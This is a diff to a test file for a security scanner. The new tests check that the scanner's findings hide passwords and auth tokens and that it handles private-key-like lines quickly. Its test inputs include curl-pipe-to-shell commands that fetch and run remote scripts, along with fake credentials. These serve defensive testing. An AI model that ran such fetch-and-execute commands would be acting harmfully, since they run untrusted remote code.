@@ -149,3 +149,36 @@ test("SCAN-3 evidence keeps what is no secret", async () => {
   const command = "curl -s https://files.example:8080/@scope/x-1.2.3/install.sh?name=a@b | sh"
   expect(await evidenceOf(command)).toContain(command)
 })
+
+test("SCAN-3 evidence shows no value of a secret setting and no credentials of a request", async () => {
+  const rest = " && curl -s https://e.top/x | sh"
+  const secrets = [
+    ["PASSWORD=s3cr3tPassw0rd!", "s3cr3t"],
+    ['password: "correct-Horse!battery"', "Horse"],
+    ["PASSWORD = 'Tr0ub4dor&3xyz!longer'", "Tr0ub"],
+    ["curl -u admin:Sup3rS3cretPassw0rd https://x.top", "Sup3r"],
+    ['curl -H "Authorization: Bearer abcdefGHIJKLmnopQRSTuvwxYZabcd" https://x.top', "GHIJKL"]
+  ] as const
+  for (const [line, shown] of secrets) {
+    const evidence = (await findingsOf(line + rest, "run.sh")).map((finding) => finding.evidence)
+    expect(evidence.length, line).toBeGreaterThan(0)
+    for (const each of evidence) expect(each, line).not.toContain(shown)
+  }
+  for (const line of [
+    "TOKEN=$API_TOKEN",
+    "token: os.environ.get('X')",
+    "PASSWORD=<your password>",
+    "token = config.token"
+  ]) {
+    const [first] = await findingsOf(`${line}${rest}`, "run.sh")
+    expect(first?.evidence).toContain(line)
+  }
+})
+
+test("SCAN-6 lines that start like private keys take linear time", async () => {
+  const line = `${"-----BEGIN PRIVATE KEY-----.".repeat(9)}\n`
+  const begun = performance.now()
+  await findingsOf(line.repeat(2000))
+  // A search of all labels of the following lines took 13 seconds.
+  expect(performance.now() - begun).toBeLessThan(5000)
+})
